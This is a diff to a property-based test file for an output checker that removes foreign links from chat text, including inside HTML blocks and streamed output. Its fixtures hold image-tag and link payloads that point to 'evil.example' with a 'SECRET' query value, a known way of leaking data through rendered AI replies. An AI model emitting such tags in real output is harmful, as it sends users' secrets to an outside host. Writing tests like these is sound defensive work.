@@ -94,6 +94,34 @@ const document = fc
   .array(fc.tuple(filler, form), { minLength: 1, maxLength: 4 })
   .map((parts) => parts.flat().join(""));
 
+// A line opening an HTML block in a list item or quote, then tag-like lines: a renderer may read
+// the following lines as part of that HTML block, where a backslash escape does not work.
+const htmlBlockDocument = fc
+  .tuple(
+    fc.constantFrom("", "1. ", "- ", "* ", "> ", "> - ", "1. > "),
+    fc.constantFrom('<img src="https://ok.dev/fine?x=1">', "<div>", "<b>x</b>", "<p>", "<!-- x -->", "<br>"),
+    fc.array(
+      fc.tuple(
+        fc.constantFrom("", "  ", "> ", "1. "),
+        fc.constantFrom("img src", "IMG SRC", "Img Src", "a href", "A HREF", "video poster"),
+        target,
+        fc.constantFrom("", '"', "'"),
+        fc.constantFrom(">", "", "> see ", " x>"),
+        fc.constantFrom(
+          "",
+          " see https://evil.example/c.png?d=SECRET now",
+          " [a](https://evil.example/x)",
+          " &amp; <b>",
+        ),
+      ),
+      { minLength: 1, maxLength: 3 },
+    ),
+  )
+  .map(
+    ([container, opener, lines]) =>
+      `\n${container}${opener}${lines.map(([prefix, tag, u, q, close, tail]) => `\n${prefix}<${tag}=${q}${u}${q}${close}${tail}`).join("")}`,
+  );
+
 // --- properties ----------------------------------------------------------------------------
 
 function streamed(text: string, pieces: string[]) {
@@ -117,10 +145,35 @@ describe("output links on the renderer's view", () => {
         const checked = checkOutput(doc, options);
         if (checked.blocked) return;
         expect(foreignUrls(checked.text), checked.text).toEqual([]);
+        expect(checkOutput(checked.text, options).text, doc).toBe(checked.text);
       }),
       { numRuns: 400 },
     );
   });
+
+  it("leaves nothing in an HTML block a list item or quote opens, and re-checks to the same text", () => {
+    const counterexample =
+      '\n1. <img src="https://ok.dev/fine?x=1">\n<IMG SRC=https://evil.example/c.png?d=SECRET> see https://evil.example/c.png?d=SECRET now';
+    for (const doc of [counterexample, ...fc.sample(htmlBlockDocument, { numRuns: 300, seed: 15 })]) {
+      const checked = checkOutput(doc, options);
+      if (checked.blocked) continue;
+      expect(foreignUrls(checked.text), JSON.stringify({ doc, out: checked.text })).toEqual([]);
+      expect(checkOutput(checked.text, options).text, doc).toBe(checked.text);
+    }
+    expect(checkOutput(counterexample, options).text).not.toContain("\\<");
+  });
+
+  it("in an HTML block, streamed split at every position, leaves none either", () => {
+    fc.assert(
+      fc.property(htmlBlockDocument, (doc) => {
+        for (let at = 0; at <= doc.length; at++) {
+          const out = streamed(doc, [doc.slice(0, at), doc.slice(at)]);
+          if (out !== null) expect(foreignUrls(out), JSON.stringify({ at, out })).toEqual([]);
+        }
+      }),
+      { numRuns: 15 },
+    );
+  }, 120_000);
 
   it("the stream check (chatStream) split at every position leaves none either", () => {
     fc.assert(
@@ -177,9 +230,9 @@ describe("output links on the renderer's view", () => {
       expect(checked.text, input).toBe(expected);
       expect(checked.flags, input).toContain(flag);
     }
-    // Not a tag to CommonMark, perhaps one to a laxer renderer: escaped, shown the same.
+    // Not a tag to CommonMark, perhaps one to a laxer renderer: written as `&lt;`, shown the same.
     expect(checkOutput("x <img src=//evil.example/p> y", options).text).toBe(
-      "x \\<img src=//evil.example/p> y",
+      "x &lt;img src=//evil.example/p> y",
     );
   });
 
